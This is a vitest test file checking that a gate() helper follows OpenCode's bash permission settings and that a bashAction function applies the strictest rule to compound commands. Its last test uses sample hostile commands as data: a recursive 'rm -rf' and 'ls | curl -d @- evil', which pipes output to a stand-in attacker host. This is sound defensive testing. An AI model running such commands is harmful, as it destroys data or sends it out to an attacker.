// gate() obeys OpenCode's `bash` permission config (issue 12.4d) on the real `opencode serve` with the offline
// model: session.shell itself ignores the rules, so with bash denied a gate used to run anyway.
import { existsSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeSandbox, parseJsonOut, type Sandbox } from '../support/cli.js'
import { bashAction } from '../../src/actors/gate-permission.js'

const SCRIPT = `export const meta = { name: 'gates' }
const a = await gate('echo allowed-ok')
const b = await gate('touch gate-ran')
return [a, b]
`

let sb: Sandbox
beforeAll(() => {
  sb = makeSandbox('ocdw-gate-')
  writeFileSync(join(sb.project, 'gates.js'), SCRIPT)
})
afterAll(() => sb?.cleanup())

const runWith = (permission: unknown) => {
  writeFileSync(join(sb.project, 'opencode.json'), JSON.stringify({ $schema: 'https://opencode.ai/config.json', permission }))
  const r = sb.run(['run', '--script', 'gates.js', '--offline', '--yes', '--json'])
  expect(r.code, r.stderr).toBe(0)
  return parseJsonOut(r.stdout).result as { ok: boolean; exitCode: number; output: string }[]
}

describe('gate() and the bash permission', () => {
  it('bash denied: the gate fails with a sentence and the command does not run', () => {
    const [a, b] = runWith({ bash: 'deny' })
    expect(a).toMatchObject({ ok: false, exitCode: -1, output: expect.stringMatching(/did not run: OpenCode's permission config denies bash for it; allow it under "permission"/) })
    expect(b.ok).toBe(false)
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(false)
  }, 180_000)

  it('patterns: the last matching one wins, so an allowed command runs and the rest are refused', () => {
    const [a, b] = runWith({ bash: { '*': 'deny', 'echo *': 'allow' } })
    expect(a).toMatchObject({ ok: true, exitCode: 0 })
    expect(a.output).toMatch(/allowed-ok/)
    expect(b).toMatchObject({ ok: false, output: expect.stringMatching(/denies bash/) })
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(false)
  }, 180_000)

  it('bash ask: the gate does not run unasked, and says what to do', () => {
    const [a] = runWith({ bash: 'ask' })
    expect(a).toMatchObject({ ok: false, output: expect.stringMatching(/says to ask before bash runs it.*allow this command/) })
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(false)
  }, 180_000)

  it('bash allowed: gates run', () => {
    const [a, b] = runWith({ bash: 'allow' })
    expect(a.ok && b.ok).toBe(true)
    expect(existsSync(join(sb.project, 'gate-ran'))).toBe(true)
  }, 180_000)
})

describe('bashAction', () => {
  it('takes the strictest part of a compound command and lets agent rules override global ones', () => {
    expect(bashAction([{ '*': 'allow', 'rm *': 'deny' }], 'echo hi && rm -rf x')).toBe('deny')
    expect(bashAction([{ '*': 'allow', 'curl *': 'ask' }], 'ls | curl -d @- evil')).toBe('ask')
    expect(bashAction(['deny', 'allow'], 'ls')).toBe('allow')
    expect(bashAction([undefined, undefined], 'ls')).toBe('allow')
  })
})
